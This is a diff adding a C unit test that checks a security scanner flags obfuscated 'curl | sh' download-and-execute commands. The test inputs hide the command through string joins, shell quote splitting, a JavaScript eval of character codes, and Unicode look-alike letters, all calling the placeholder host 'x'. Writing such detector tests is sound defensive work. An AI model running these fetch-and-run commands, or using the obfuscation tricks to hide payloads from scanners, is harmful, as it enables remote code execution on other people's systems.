@@ -589,6 +589,50 @@ START_TEST(binary_strings)
 }
 END_TEST
 
+/* The normalised view: what literal tricks hide is found, at its line,
+ * saying how; what the bytes show is reported once, as it is. */
+START_TEST(normalised_view)
+{
+	struct finding_list fl;
+	const struct finding *f;
+
+	scan_str("a.py", "x = 1\ncmd = 'cu' + 'rl -s http://x/i | sh'\n", &fl);
+	ck_assert_uint_eq(fl.n, 1);
+	f = tu_first(&fl, "curl-sh");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_uint_eq(f->line, 2);
+	ck_assert_uint_eq(f->column, 1);
+	ck_assert_str_eq(f->excerpt,
+	    "via string join: cmd = 'curl -s http://x/i | sh'");
+	ck_assert_uint_eq(strlen(f->fingerprint), 32);
+	finding_list_free(&fl);
+	scan_str("a.sh", "c''url -s http://x/i | b\"\"ash\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
+	    "via shell quoting: curl -s http://x/i | bash");
+	finding_list_free(&fl);
+	scan_str("a.js", "eval(String.fromCharCode(99,117,114,108,32,120,124,"
+	    "115,104))\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	finding_list_free(&fl);
+	/* Fullwidth letters. */
+	scan_str("a.sh", "\xef\xbd\x83url -s http://x/i | sh\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
+	    "via Unicode look-alikes: curl -s http://x/i | sh");
+	finding_list_free(&fl);
+	/* Found by the bytes: once, not again through the view. */
+	scan_str("a.sh", "curl -s 'http://x/' + 'i' | sh\n", &fl);
+	ck_assert_uint_eq(fl.n, 1);
+	ck_assert_str_eq(fl.v[0].excerpt, "curl -s 'http://x/' + 'i' | sh");
+	finding_list_free(&fl);
+	/* Nothing to undo, nothing found. */
+	scan_str("a.py", "print('a' + 'b')\n", &fl);
+	ck_assert_uint_eq(fl.n, 0);
+	finding_list_free(&fl);
+}
+END_TEST
+
 START_TEST(empty_and_nul_and_invalid_utf8)
 {
 	static const char odd[] = "\xff\xfe\0x = " TOKEN " \xc3\n";
@@ -861,6 +905,7 @@ engine_suite(void)
 	tcase_add_test(tc, utf16_across_chunks);
 	tcase_add_test(tc, lone_cr_ends_a_line);
 	tcase_add_test(tc, binary_strings);
+	tcase_add_test(tc, normalised_view);
 	tcase_add_test(tc, empty_and_nul_and_invalid_utf8);
 	tcase_add_test(tc, finding_cap_is_unscannable);
 	tcase_add_test(tc, read_error_is_unscannable);
